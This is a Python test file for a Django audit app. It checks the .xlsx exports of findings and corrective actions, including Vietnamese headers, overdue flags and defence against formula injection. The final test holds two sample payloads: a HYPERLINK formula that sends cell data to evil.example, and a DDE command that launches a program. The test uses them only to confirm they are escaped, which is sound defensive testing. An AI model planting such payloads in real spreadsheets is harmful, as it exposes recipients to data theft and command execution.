"""The findings log and corrective action log export to .xlsx with Vietnamese headers."""

import datetime
from io import BytesIO

from django.urls import reverse
from openpyxl import load_workbook

from audits.models import CorrectiveAction, Finding
from tests.audits.factories import CorrectiveActionFactory, FindingFactory
from tests.spreadsheet_reading import read_table


def rows(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    table = read_table(response)
    assert table.column("STT") == list(range(1, len(table.rows) + 1))
    return [table.headers, *table.rows]


def test_findings_log_has_a_row_per_finding(client, secretary, action, running_audit, audited):
    FindingFactory(audit=running_audit, kind=Finding.Kind.OFI, department=audited, description="Cải tiến", evidence="")
    client.force_login(secretary)
    header, *data = rows(client.get(reverse("audits_finding:export")))
    assert header[:5] == ["STT", "Số phát hiện", "Cuộc đánh giá", "Loại", "Điều khoản"]
    assert len(data) == 2
    numbers = {row[1] for row in data}
    assert numbers == {"ĐGNB-2026-01/NC-01", "ĐGNB-2026-01/OFI-01"}
    nc = next(row for row in data if row[1].endswith("NC-01"))
    assert nc[4].startswith("9.2") and nc[5] == "2008: 8.2.2"
    assert nc[10] == action.number


def test_action_log_has_a_row_per_action_and_flags_overdue(client, secretary, action, auditor, audited, owner):
    late = CorrectiveActionFactory(
        finding=None,
        source=CorrectiveAction.Source.LATE_PROCEDURE,
        department=audited,
        nonconformity="Hồ sơ trễ hạn",
        owner=owner,
        due_date=datetime.date(2020, 1, 1),
        raised_by=auditor,
    )
    client.force_login(secretary)
    header, *data = rows(client.get(reverse("audits_action:export")))
    assert header[1] == "Số phiếu" and "Quá hạn" in header
    by_number = {row[1]: row for row in data}
    assert set(by_number) == {action.number, late.number}
    # The due date is a date cell.
    assert by_number[late.number][header.index("Hạn hoàn thành")] == datetime.datetime(2020, 1, 1)
    overdue_column = header.index("Quá hạn")
    assert by_number[late.number][overdue_column] == "có"
    assert by_number[action.number][overdue_column] in ("", None)


HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm để xem")'
DDE = "=cmd|' /C calc'!A0"


def test_formulas_typed_into_findings_and_actions_stay_text_in_both_logs(client, secretary, finding, owner):
    """CSV/formula injection: text typed as a formula is written with a leading apostrophe, as text."""
    Finding.objects.filter(pk=finding.pk).update(description="@SUM(1+1)", evidence="-2+3")
    finding.refresh_from_db()
    action = finding.raise_corrective_action(
        finding.recorded_by, owner=owner, due_date=datetime.date.today() + datetime.timedelta(days=60)
    )
    action.plan(owner, correction=HYPERLINK, root_cause=DDE, action_plan="+84 912 345 678")
    client.force_login(secretary)
    for url, typed in (
        (reverse("audits_finding:export"), ["@SUM(1+1)", "-2+3"]),
        (reverse("audits_action:export"), [HYPERLINK, DDE, "+84 912 345 678"]),
    ):
        response = client.get(url)
        sheet = load_workbook(BytesIO(response.content)).active
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
        texts = {cell.value for cell in cells}
        for value in typed:
            assert "'" + value in texts and value not in texts
        # Numbers stay numbers (the row number).
        table = read_table(response)
        first = table.sheet.cell(row=table.header_row + 1, column=1)
        assert first.value == 1 and first.data_type == "n"
